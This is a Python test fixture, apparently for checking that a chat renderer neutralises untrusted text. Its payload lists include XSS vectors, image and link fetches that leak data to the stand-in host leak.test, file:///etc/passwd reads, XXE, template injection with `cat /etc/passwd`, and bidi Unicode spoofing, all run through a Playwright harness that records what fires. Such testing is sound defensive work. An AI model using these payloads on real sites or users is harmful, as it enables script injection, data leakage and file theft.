"""Texts that try to run code, fetch something or read a file when a page shows them; and the page that tries them.

Where one of them runs it calls `harm(…)`, or opens a dialog; where one fetches, it asks leak.test or leaks a path.
"""

import contextlib
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

SCRIPTS = [
    "<script>harm(1)</script>",
    "<SCRIPT SRC=https://leak.test/a.js></SCRIPT>",
    "<scr<script>ipt>harm(1)</scr</script>ipt>",
    "<script>alert(document.cookie)",
    "</textarea></title></style></script><script>harm(1)</script>",
    "<!--><script>harm(1)</script>-->",
    "<![CDATA[<script>harm(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=harm(1)>'></noscript>",
    "<template><script>harm(1)</script></template><img src=x onerror=harm(1)>",
    "<?xml version='1.0'?><script>harm(1)</script>",
]
HANDLERS = [
    "<img src=x onerror=harm(1)>",
    "<img src='x'onerror='harm(1)'>",
    "<IMG SRC=x OnErRoR=harm(1)//",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='harm(1)",
    "<b onmouseover=harm(1)>point here</b>",
    "<div onclick=harm(1) style='position:fixed;inset:0'>click anywhere</div>",
    "<input autofocus onfocus=harm(1)>",
    "<details open ontoggle=harm(1)>x</details>",
    "<video><source onerror=harm(1)></video>",
    "<audio src=x onerror=harm(1)></audio>",
    "<body onload=harm(1)>",
    "<marquee onstart=harm(1)>x</marquee>",
    "<select autofocus onfocus=harm(1)><option>x</select>",
    "<a id=x tabindex=1 onfocus=harm(1)>x</a>",
    "<p onanimationstart=harm(1) style='animation: spin 1s'>x</p>",
    "<button class=bz-copy onclick=harm(1)>Copy</button>",
]
LINKS = [
    "[x](javascript:harm(1))",
    "[x](JaVaScRiPt:harm(1))",
    "[x](java\tscript:harm(1))",
    "[x](&#106;avascript:harm(1))",
    "[x](javascript&colon;harm(1))",
    "[x](\x01javascript:harm(1))",
    "[x](<javascript:harm(1)>)",
    "[x]\n\n[x]: javascript:harm(1)",
    "<javascript:harm(1)>",
    "<a href='javascript:harm(1)'>x</a>",
    "[x](data:text/html,<script>harm(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5oYXJtKDEpPC9zY3JpcHQ+)",
    "[x](vbscript:harm(1))",
    '[x](https://leak.test "onmouseover=harm(1)")',
    '[x](https://leak.test/"onmouseover=harm(1)//)',
    "[x](//leak.test/nobody-typed-a-scheme)",
    "[x](/api/shutdown)",
    "[x](../../etc/passwd)",
]
FETCHES = [
    "![x](https://leak.test/pixel.png)",
    "![x](https://leak.test/?said=the+whole+talk 'a title')",
    "![x]\n\n[x]: https://leak.test/b.png",
    "[![x](https://leak.test/c.png)](https://leak.test/d)",
    "![x](javascript:harm(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Imhhcm0oMSkiLz4=)",
    "<img src=https://leak.test/e.png>",
    "<img srcset='https://leak.test/f.png 2x'>",
    "<link rel=stylesheet href=https://leak.test/g.css>",
    "<link rel=prefetch href=https://leak.test/h>",
    "<iframe src=https://leak.test/i></iframe>",
    "<iframe srcdoc='<script>parent.harm(1)</script>'></iframe>",
    "<object data=https://leak.test/j></object>",
    "<embed src=https://leak.test/k>",
    "<form action=https://leak.test/l><button>Send</button></form>",
    "<base href=https://leak.test/>",
    "<meta http-equiv=refresh content='0;url=https://leak.test/m'>",
    "<table background=https://leak.test/n><td>x</table>",
    "<video poster=https://leak.test/o.png></video>",
]
FILES = [
    "<img src=file:///etc/passwd>",
    "![x](file:///etc/passwd)",
    "[x](file:///etc/passwd)",
    "<iframe src=file:///etc/passwd></iframe>",
    r"![x](C:\Users\me\secret.png) and \\server\share\x",
    "{% include '/etc/passwd' %} ${env:HOME} {{7*7}} `cat /etc/passwd`",
    "<!--#include file='/etc/passwd'-->",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
]
STYLES = [
    "<style>body {background: url(https://leak.test/p.png)}</style>",
    "<style>@import 'https://leak.test/q.css';</style>",
    "<div style='background:url(https://leak.test/r.png)'>x</div>",
    "<svg onload=harm(1)>",
    "<svg><script>harm(1)</script></svg>",
    "<svg><animate onbegin=harm(1) attributeName=x dur=1s></svg>",
    "<svg><use href='https://leak.test/s.svg#x'/></svg>",
    "<svg><image href=https://leak.test/t.png /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=harm(1)></style></mglyph></table></mtext></math>",
    "<svg></p><style><a id='</style><img src=x onerror=harm(1)>'>",
]
NESTED = [
    "```\n</code></pre><script>harm(1)</script>\n```",
    '```html onload=harm(1) "><img src=x onerror=harm(1)>\nx\n```',
    "```\nnever closed <img src=x onerror=harm(1)>",
    "    <img src=x onerror=harm(1)>",
    "`<svg onload=harm(1)>`",
    "> - 1. **<img src=x onerror=harm(1)>**",
    "| <img src=x onerror=harm(1)> |\n|-|\n| `</td><script>harm(1)</script>` |",
    "# <img src=x onerror=harm(1)> #",
    "**_~~[<img src=x onerror=harm(1)>](https://leak.test/u)~~_**",
    "*" * 40 + "[" * 40 + "<b onmouseover=harm(1)>" + "> " * 40,
    "<div><p><b><i><a href=x",
    "</div></div></div></div></body></html>",
    "&lt;script&gt;harm(1)&lt;/script&gt; &#60;img src=x onerror=harm(1)&#62; &amp;lt;",
    "\\<img src=x onerror=harm(1)\\>",
    "https://leak.test/v www.leak.test <https://leak.test/w> me@leak.test",
    "$$\\href{javascript:harm(1)}{x}$$ \\(\\require{html}\\)",
    "<<SCRIPT>harm(1);//<</SCRIPT>",
    "＜script＞harm(1)＜/script＞ %3Cscript%3Eharm(1)%3C/script%3E \\u003cimg src=x onerror=harm(1)\\u003e",
]
UNSEEN = [
    "pay \u202e001$\u202c now, file\u202egnp.exe",
    "\u2066if admin\u2069 \u2067or\u2069 \u202atrue\u202c \u202bnot\u202c \u202dleft\u202c",
    "<scr\u200bipt>harm(1)</scr\u200bipt> <\u2060img src=x onerror=harm(1)>",
    "pa\u200bss\ufeffword \u2061\u2062\u2063",
    "hello \U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065",
    "<scr\x00ipt>harm(1)</script> \x00<img src=x onerror=harm(1)>",
    "\x1b[31mred\x1b[0m \x07 \x08 \x7f \x9b",
    "half a character: \ud83d and \udc00",
    "Z" + "\u0300\u0489\u0336" * 60 + " a tower of marks",
    "W" * 3000,
    "word-" * 600,
    "<img src=x onerror=harm(1)\u2028>\u2029",
    "\r\n<img src=x\r\nonerror=harm(1)>\r",
]
GROUPS = [SCRIPTS, HANDLERS, LINKS, FETCHES, FILES, STYLES, NESTED, UNSEEN]
TEXTS = [text for group in GROUPS for text in group]

# Everything that a page would do at once, and after that everything that a person could set off.
TRY = """html => {
    const root = document.createElement('div');
    document.body.replaceChildren(root);
    root.innerHTML = html;
    const events = ['click', 'mouseover', 'focus', 'load', 'error', 'toggle', 'animationstart', 'start', 'begin'];
    for (const element of root.querySelectorAll('*')) {
        if (element.hasAttribute('onclick') && element.classList.contains('bz-chat')) continue;  // the widget's own
        for (const event of events) element.dispatchEvent(new Event(event));
        if (element.tagName === 'A' && !/^(https?|mailto):/.test(element.href)) element.click();
    }
    return root.querySelectorAll('*').length;
}"""


class Page:
    """An empty page on loopback that html can be put into.

    ran : what was called, or said in a dialog. asked : every address that was asked for. refused : the browser's log.
    """

    def __init__(self, tab, address):
        self.tab, self.address, self.ran, self.asked, self.refused = tab, address, [], [], []
        tab.on("request", lambda request: self.asked.append(request.url))
        tab.on("popup", lambda popup: self.asked.append(popup.url))
        tab.on("console", lambda message: self.refused.append(message.text))
        tab.on("dialog", self._dismiss)
        tab.expose_function("harm", lambda what: self.ran.append(what))

    def put(self, html):
        """Put html into a fresh page and set off all that can be set off in it; return how many elements there were."""
        self.tab.goto(self.address)
        for seen in (self.ran, self.asked, self.refused):
            seen.clear()
        count = self.tab.evaluate(TRY, html)
        self.tab.wait_for_timeout(300)  # time for what begins by itself: images, frames, animations
        return count

    def _dismiss(self, dialog):
        self.ran.append(dialog.message)
        dialog.dismiss()


@contextlib.contextmanager
def page(tab):
    """A `Page` in a playwright tab, with a server of its own."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Empty)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield Page(tab, f"http://127.0.0.1:{server.server_port}/")
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


class _Empty(BaseHTTPRequestHandler):
    """Answers every request with an empty page."""

    def do_GET(self):
        body = b"<!doctype html><meta charset=utf-8><link rel=icon href=data:,><body></body>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        """Say nothing."""
